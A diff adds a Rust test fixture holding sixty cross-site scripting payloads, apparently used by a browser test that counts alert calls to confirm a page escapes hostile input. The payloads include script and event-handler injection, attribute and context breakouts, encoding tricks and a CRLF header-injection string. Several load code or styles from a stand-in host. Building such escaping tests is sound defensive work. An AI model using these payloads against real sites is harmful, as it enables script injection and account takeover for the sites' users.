@@ -1,0 +1,78 @@
+//! Sixty texts that run where a page lets them out of the place that it put them in.
+//!
+//! Every one that can run calls `alert`, which the browser's test replaces by something that is counted.
+
+/// One of each kind that is known to have worked somewhere.
+pub(super) const STRINGS: [&str; 60] = [
+    // Elements.
+    "<script>alert(1)</script>",
+    "<ScRiPt>alert(1)</sCrIpT>",
+    "<script src=data:,alert(1)></script>",
+    "<script src=//evil.invalid/x.js></script>",
+    "<<script>alert(1)//<</script>",
+    "<img src=x onerror=alert(1)>",
+    "<img/src=x/onerror=alert(1)>",
+    "<IMG SRC=x OnErRoR=alert(1)//",
+    "<svg onload=alert(1)>",
+    "<svg/onload=alert(1)//",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><script>alert&#40;1&#41;</script>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
+    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
+    "<body onload=alert(1)>",
+    "<input autofocus onfocus=alert(1)>",
+    "<details open ontoggle=alert(1)>x</details>",
+    "<video><source onerror=alert(1)></video>",
+    "<marquee onstart=alert(1)>x</marquee>",
+    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
+    "<object data=data:text/html,<script>alert(1)</script>></object>",
+    "<embed src=javascript:alert(1)>",
+    "<base href=//evil.invalid/>",
+    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
+    "<link rel=stylesheet href=//evil.invalid/x.css>",
+    "<style>@import '//evil.invalid/x.css';*{color:red}</style>",
+    "<form action=javascript:alert(1)><button>x</button></form>",
+    "<template><img src=x onerror=alert(1)></template>",
+    // Out of an attribute.
+    "\"><script>alert(1)</script>",
+    "'><script>alert(1)</script>",
+    "\" autofocus onfocus=alert(1) x=\"",
+    "' autofocus onfocus=alert(1) x='",
+    "` onmouseover=alert(1) `",
+    "x onerror=alert(1) autofocus onfocus=alert(1)",
+    "\"/><svg/onload=alert(1)>",
+    "\"style=\"background:url(//evil.invalid/x)",
+    // Out of what stands around a text.
+    "</title><script>alert(1)</script>",
+    "</textarea><script>alert(1)</script>",
+    "</code></pre><script>alert(1)</script>",
+    "</style><script>alert(1)</script>",
+    "</script><script>alert(1)</script>",
+    "--><script>alert(1)</script><!--",
+    "]]><script>alert(1)</script>",
+    "<!--><img src=x onerror=alert(1)>",
+    "\"});alert(1);//",
+    "\\\";alert(1)//",
+    "';alert(1);'",
+    // Addresses.
+    "javascript:alert(1)",
+    "jAvAsCrIpT&colon;alert(1)",
+    "data:text/html,<script>alert(1)</script>",
+    // Templates, entities, letters of other alphabets.
+    "{{constructor.constructor('alert(1)')()}}",
+    "${alert(1)}<%= alert(1) %>#{alert(1)}",
+    "&lt;script&gt;alert(1)&lt;/script&gt;&#60;img src=x onerror=alert(1)&#62;",
+    "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}\u{202e}>tpircs<",
+    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
+    "\u{2028}\u{2029}\u{feff}<script>alert(1)</script>\u{fffd}",
+    // A header, and a long one.
+    "x\r\nSet-Cookie: tidings_portal=x\r\n\r\n<script>alert(1)</script>",
+    concat!(
+        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
+        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
+        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
+        "\"><img src=x onerror=alert(1)>",
+    ),
+];
